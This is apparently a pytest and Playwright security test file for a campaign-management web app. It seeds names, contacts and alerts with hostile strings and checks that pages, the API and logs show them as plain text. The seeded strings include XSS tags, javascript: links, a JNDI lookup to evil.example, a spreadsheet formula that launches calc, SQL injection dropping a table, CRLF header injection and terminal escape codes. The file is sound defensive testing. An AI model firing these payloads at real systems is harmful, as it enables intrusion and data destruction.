"""Names that are no names: in every page, as a browser shows it, and in what is written down."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page
from sqlalchemy import text

from data.database import open_engine
from tests.live.places import EVERYWHERE, visit
from tests.live.windows import window
from tests.server import Server

IMAGE = "<img src=x onerror=\"document.title='owned';window.owned=1\">"
SCRIPT = "</script><script>window.owned=1</script>"
LINK = "javascript:window.owned=1"
HOSTILE = (
    IMAGE, SCRIPT, LINK, "{{7*7}}", "${jndi:ldap://evil.example/a}", "\"><svg onload=owned=1>",
    "=cmd|' /C calc'!A1", "%_%", "a\r\nSet-Cookie: owned=1", "\x1b[2J\x1b]0;owned\x07",
    "\u202enimda", "'; DROP TABLE contacts;--", "[x](javascript:window.owned=1)", "%00", "\u2028",
)  # fmt: skip
LARGE = "<b>" + "n" * 1_000_000


@pytest.fixture(scope="module")
def hostile(module_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server on a campaign for each hostile name, whose contacts and alerts bear it too."""
    _fill(module_url)
    server = Server(tmp_path_factory.mktemp("hostile"), module_url).start()
    server.wait_until(lambda: len(server.get("/api/v1/alerts?status=open")["alerts"]) >= 2)
    yield server
    server.stop()


def _fill(url: str) -> None:
    engine = open_engine(url)
    with engine.execution_options(write=True).begin() as connection:
        for number, name in enumerate((*HOSTILE, LARGE), 1):
            status = "in_progress" if number < 4 else "finished"
            connection.execute(
                text(
                    "INSERT INTO campaigns (id, name, mode, status, timezone)"
                    " VALUES (:id, :name, 'predictive', :status, :zone)"
                ),
                {"id": number, "name": name, "status": status, "zone": name[:100]},
            )
            connection.execute(
                text("INSERT INTO thresholds VALUES (:id, 'awaiting_free_operator', 1, 2)"),
                {"id": number},
            )
            given = {"id": number, "name": name[:10_000]}
            connection.execute(
                text(
                    "INSERT INTO contacts (id, campaign_id, name, phone, external_id, state,"
                    " operator, reason) VALUES (:id, :id, :name, :name, :name,"
                    " 'awaiting_free_operator', :name, :name)"
                ),
                given,
            )
    engine.dispose()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page that tells of all that it asks for, and of each dialog."""
    asked: list[str] = []
    dialogs: list[str] = []
    with window(browser, viewport={"width": 1920, "height": 1080}) as opened:
        opened.on("request", lambda request: asked.append(request.url))
        opened.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        yield opened
    assert dialogs == []
    hosts = {url.split("/")[2].split(":")[0] for url in asked if url.startswith("http")}
    assert hosts == {"127.0.0.1"}


PLACES = (*EVERYWHERE, "/campaigns/2", "/campaigns/3/contacts/3", "/wall/2", "/campaigns/16")


@pytest.mark.parametrize("place", PLACES)
def test_no_name_becomes_more_than_text(hostile: Server, page: Page, place: str) -> None:
    visit(page, hostile.url, place, "en")
    for part in page.query_selector_all("[title], [data-testid=alert], summary")[:20]:
        part.dispatch_event("mouseover")
    assert page.evaluate("window.owned") is None
    assert page.title() != "owned"
    assert page.locator("img[src=x], svg[onload], main script").count() == 0
    links = page.eval_on_selector_all("a", "links => links.map(link => link.protocol)")
    assert set(links) <= {"http:", "about:", ""}


def test_a_name_is_shown_as_it_was_written(hostile: Server, page: Page) -> None:
    visit(page, hostile.url, "/", "en")
    shown = page.inner_text("main")
    assert IMAGE in shown
    assert "{{7*7}}" in shown
    visit(page, hostile.url, "/campaigns/1", "en")
    assert page.inner_text("h1:visible") == IMAGE
    assert page.title() == f"{IMAGE} · Campaigns"


def test_answers_carry_names_as_data(hostile: Server) -> None:
    rows = hostile.get("/api/v1/campaigns")["campaigns"]
    assert [row["name"] for row in rows][: len(HOSTILE)] == list(HOSTILE)
    for path in ("/api/v1/campaigns", "/api/v1/campaigns/9", "/api/v1/contacts/9"):
        status, _, kind = hostile.fetch(path)
        assert (status, kind) == (200, "application/json")


def test_names_in_statements_are_names(hostile: Server) -> None:
    assert hostile.status("/api/v1/campaigns/12/contacts") == 200
    assert len(hostile.get("/api/v1/campaigns")["campaigns"]) == len(HOSTILE) + 1


def test_no_name_forges_a_line_of_the_log(hostile: Server) -> None:
    said = hostile.log.read_text()
    assert "\x1b" not in said
    assert not [line for line in said.split("\n") if line.startswith("Set-Cookie")]
    assert "Traceback" not in said
